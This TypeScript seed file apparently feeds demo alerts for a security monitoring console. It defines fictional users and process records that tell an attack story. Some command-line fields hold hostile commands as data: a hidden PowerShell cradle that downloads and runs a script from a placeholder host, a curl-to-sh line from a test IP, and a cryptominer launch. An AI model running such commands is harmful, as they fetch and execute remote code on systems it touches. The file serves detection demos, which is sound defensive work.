import { SEED_NETWORK, SEED_FILES, SeedFileHashes, SYSTEM_FILES } from './seed.constants';
import { ago } from './seed.builders';

// The people and the processes of the demo story, each written once: alerts show them as evidence,
// hunting tables as the initiating process of events.

export const SEED_USERS = {
  jdoe: {
    name: 'jdoe',
    domain: 'CONTOSODEMO',
    sid: 'S-1-5-21-3623811015-3361044348-30300820-1013',
    upn: 'jdoe@contosodemo.onmicrosoft.com',
    aadUserId: '2ac2c076-352e-44d0-8535-a7e09d20e844',
  },
  asmith: {
    name: 'asmith',
    domain: 'CONTOSODEMO',
    sid: 'S-1-5-21-3623811015-3361044348-30300820-1027',
    upn: 'asmith@contosodemo.onmicrosoft.com',
    aadUserId: '4f8589b5-d30b-4071-a005-8849ab6d267f',
  },
  admAsmith: {
    name: 'adm-asmith',
    domain: 'CONTOSODEMO',
    sid: 'S-1-5-21-3623811015-3361044348-30300820-2104',
    upn: null,
    aadUserId: null,
  },
  system: { name: 'system', domain: 'nt authority', sid: 'S-1-5-18', upn: null, aadUserId: null },
  iisPool: { name: 'DefaultAppPool', domain: 'IIS APPPOOL', sid: 'S-1-5-82-3006700770-424185619-1745488364-794895919-4004696415', upn: null, aadUserId: null },
  builder: { name: 'builder', domain: 'lnx-build-03', sid: 'S-1-5-21-1000', upn: null, aadUserId: null },
  mlopez: {
    name: 'mlopez',
    domain: 'mac-design-07',
    sid: 'S-1-5-21-501',
    upn: 'mlopez@contosodemo.onmicrosoft.com',
    aadUserId: '7ee8cc7b-a3a9-42a7-ae94-c081862f9e1d',
  },
} as const;

export interface SeedProcess {
  file: SeedFileHashes;
  folder: string;
  processId: number;
  commandLine: string;
  created: string;
  size: number;
  account: { name: string; domain: string; sid: string; upn: string | null; aadUserId: string | null };
  parent: { fileName: string; folder?: string; processId: number; created: string };
  integrity?: string;
}

const parentOf = (p: SeedProcess): SeedProcess['parent'] => ({ fileName: p.file.fileName, folder: p.folder, processId: p.processId, created: p.created });

const outlook: SeedProcess = {
  file: SYSTEM_FILES.outlook,
  folder: 'C:\\Program Files\\Microsoft Office\\root\\Office16',
  processId: 5120,
  commandLine: '"OUTLOOK.EXE"',
  created: ago(3190),
  size: 42_125_736,
  account: SEED_USERS.jdoe,
  parent: { fileName: 'explorer.exe', processId: 4012, created: ago(3300) },
};
const dropper: SeedProcess = {
  file: SEED_FILES.emotetDropper,
  folder: 'C:\\Users\\jdoe\\Downloads',
  processId: 7412,
  commandLine: '"invoice_2026_11.pdf.exe"',
  created: ago(3048),
  size: 284_672,
  account: SEED_USERS.jdoe,
  parent: parentOf(outlook),
};
const cradle: SeedProcess = {
  file: SYSTEM_FILES.powershell,
  folder: 'C:\\Windows\\System32\\WindowsPowerShell\\v1.0',
  processId: 9936,
  commandLine:
    'powershell.exe -nop -w hidden -c "IEX (New-Object Net.WebClient).DownloadString(\'http://badcdn-delivery.example/payload/stage2.ps1\')"',
  created: ago(1562),
  size: 452_608,
  account: SEED_USERS.asmith,
  parent: { fileName: 'explorer.exe', folder: 'C:\\Windows', processId: 4388, created: ago(2100) },
};
const systemSmb: SeedProcess = {
  file: { fileName: 'System', sha1: '', sha256: '', md5: '' },
  folder: '',
  processId: 4,
  commandLine: '',
  created: ago(20_000),
  size: 0,
  account: SEED_USERS.system,
  parent: { fileName: '', processId: 0, created: ago(20_000) },
  integrity: 'System',
};
const w3wp: SeedProcess = {
  file: SYSTEM_FILES.w3wp,
  folder: 'C:\\Windows\\System32\\inetsrv',
  processId: 2604,
  commandLine: 'c:\\windows\\system32\\inetsrv\\w3wp.exe -ap "DefaultAppPool" -v "v4.0"',
  created: ago(9000),
  size: 31_232,
  account: SEED_USERS.iisPool,
  parent: { fileName: 'svchost.exe', folder: 'C:\\Windows\\System32', processId: 1180, created: ago(20_000) },
};
const edge: SeedProcess = {
  file: SYSTEM_FILES.msedge,
  folder: 'C:\\Program Files (x86)\\Microsoft\\Edge\\Application',
  processId: 7720,
  commandLine: '"msedge.exe" --single-argument https://www.7-zip.org/download.html',
  created: ago(6010),
  size: 4_262_936,
  account: { name: 'svc-deploy', domain: 'CONTOSODEMO', sid: 'S-1-5-21-3623811015-3361044348-30300820-3001', upn: null, aadUserId: null },
  parent: { fileName: 'explorer.exe', processId: 3300, created: ago(6100) },
};
const bash: SeedProcess = {
  file: SYSTEM_FILES.bash,
  folder: '/usr/bin',
  processId: 48190,
  commandLine: 'bash -c "curl -s http://203.0.113.45/x | sh"',
  created: ago(717),
  size: 1_396_520,
  account: SEED_USERS.builder,
  parent: { fileName: 'sshd', processId: 1022, created: ago(9000) },
};
const xmrig: SeedProcess = {
  file: SEED_FILES.xmrig,
  folder: '/tmp/.cache',
  processId: 48211,
  commandLine: `/tmp/.cache/xmrig -o stratum+tcp://${SEED_NETWORK.miningPoolDomain}:3333 --donate-level 1`,
  created: ago(716),
  size: 8_454_136,
  account: SEED_USERS.builder,
  parent: parentOf(bash),
};
const launchd: SeedProcess = {
  file: SYSTEM_FILES.launchd,
  folder: '/sbin',
  processId: 1,
  commandLine: '/sbin/launchd',
  created: ago(30_000),
  size: 1_243_776,
  account: SEED_USERS.system,
  parent: { fileName: 'kernel_task', processId: 0, created: ago(30_000) },
};
const macCleaner: SeedProcess = {
  file: SEED_FILES.macCleaner,
  folder: '/Applications/MacCleanerPro.app/Contents/MacOS',
  processId: 811,
  commandLine: '/Applications/MacCleanerPro.app/Contents/MacOS/MacCleanerPro',
  created: ago(4999),
  size: 3_145_728,
  account: SEED_USERS.mlopez,
  parent: parentOf(launchd),
};
const otherLoader: SeedProcess = {
  file: SEED_FILES.otherLoader,
  folder: 'C:\\Users\\labuser\\Desktop',
  processId: 3004,
  commandLine: '"other-loader.exe"',
  created: ago(406),
  size: 96_256,
  account: { name: 'labuser', domain: 'FABRIKAM', sid: 'S-1-5-21-1111111111-2222222222-3333333333-1001', upn: null, aadUserId: null },
  parent: { fileName: 'explorer.exe', processId: 2100, created: ago(900) },
};

export const SEED_PROCESSES = { outlook, dropper, cradle, systemSmb, w3wp, edge, bash, xmrig, launchd, macCleaner, otherLoader };
